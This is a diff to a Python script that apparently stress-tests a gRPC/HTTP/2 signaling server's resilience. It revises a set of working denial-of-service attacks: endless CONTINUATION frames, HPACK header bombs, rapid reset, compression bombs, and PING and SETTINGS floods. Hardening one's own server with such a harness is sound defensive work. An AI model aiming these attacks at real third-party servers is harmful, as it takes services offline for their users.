@@ -50,14 +50,17 @@ def request(token=None, path=b"/cairn.signaling.v1.Admin/GetStatus", extra=b""):
 class Connection:
     """To "address:port". It has said what every client says first."""
 
-    def __init__(self, address, tls=None):
+    def __init__(self, address, tls=None, wait=True):
         host, _, port = address.rpartition(":")
         self.socket = socket.create_connection((host.strip("[]"), int(port)), timeout=PATIENCE)
         self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
         if tls:
             self.socket = tls.wrap_socket(self.socket, server_hostname="localhost")
         self._received = b""
-        self.send(PREFACE + frame(SETTINGS) + frame(SETTINGS, ACK))
+        self.send(PREFACE + frame(SETTINGS))
+        if wait:
+            next((one for one in self.frames() if one[0] == SETTINGS), None)
+        self.send(frame(SETTINGS, ACK))
 
     def __enter__(self):
         return self
@@ -99,22 +102,30 @@ class Connection:
 
 # ---- attacks: each takes a fresh connection, and goes on until it is over, or enough was sent.
 
-def endless_continuation(connection, token, megabytes=64):
-    connection.send(frame(HEADERS, 0, 1, request(token)))
-    piece = frame(CONTINUATION, 0, 1, field(b"x", bytes(16_000)))
-    for _ in range(megabytes * 64):
+# The beginning of a field whose value has 2 GiB.
+_ENDLESS_FIELD = b"\x00\x01x\x7f\x80\xff\xff\xff\x07"
+
+
+def endless_continuation(connection, token, megabytes=192, frame_bytes=16_000):
+    """One field, and no end of it."""
+    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request(token)))
+    connection.send(frame(HEADERS, 0, 3, request(token) + _ENDLESS_FIELD))
+    piece = frame(CONTINUATION, 0, 3, b"a" * frame_bytes)
+    for _ in range((megabytes << 20) // frame_bytes):
         connection.send(piece)
 
 
-def header_bomb(connection, token, requests=40):
-    """Each request names one field of 4,000 bytes 16,000 times, in one byte each: 60 MB."""
-    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request(token, extra=indexed(b"x", bytes(4000)))))
-    block = request(token)
-    for number in range(1, requests):
-        stream = 2 * number + 1
-        connection.send(frame(HEADERS, 0, stream, block + LAST_INDEXED * 16_000),
-                        *[frame(CONTINUATION, 0, stream, LAST_INDEXED * 16_000)] * 8,
-                        frame(CONTINUATION, END_HEADERS, stream, b""))
+def small_continuation(connection, token):
+    """The same in small pieces: with each, a parser may begin again."""
+    endless_continuation(connection, token, 2, 1024)
+
+
+def header_bomb(connection, token, requests=2000):
+    """Each request names a field of 3,000 bytes twice, in one byte each."""
+    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request(token, extra=indexed(b"x", b"a" * 3000))))
+    block = request(token, extra=LAST_INDEXED * 2)
+    for first in range(1, requests, 50):
+        connection.send(*(frame(HEADERS, END_HEADERS, 2 * number + 1, block) for number in range(first, first + 50)))
 
 
 def rapid_reset(connection, token, requests=100_000):
@@ -138,13 +149,15 @@ def compressed_bomb(connection, token, megabytes=256):
         connection.send(frame(DATA, 0, 1, message[at:at + 16_000]))
 
 
-def pings(connection, token, count=200_000):  # pylint: disable=unused-argument
+def pings(connection, token, count=200_000):
+    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request(token)))
     piece = frame(PING, 0, 0, bytes(8)) * 1000
     for _ in range(count // 1000):
         connection.send(piece)
 
 
-def settings(connection, token, count=200_000):  # pylint: disable=unused-argument
+def settings(connection, token, count=200_000):
+    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request(token)))
     piece = frame(SETTINGS) * 1000
     for _ in range(count // 1000):
         connection.send(piece)
@@ -157,7 +170,7 @@ def never_ending_body(connection, token, megabytes=64):
         connection.send(frame(DATA, 0, 1, bytes(16_000)))
 
 
-ATTACKS = [endless_continuation, header_bomb, rapid_reset, compressed_bomb, pings, settings, never_ending_body]
+ATTACKS = [endless_continuation, small_continuation, header_bomb, rapid_reset, compressed_bomb, pings, settings, never_ending_body]
 
 
 def attack(address, which, token=None, tls=None):
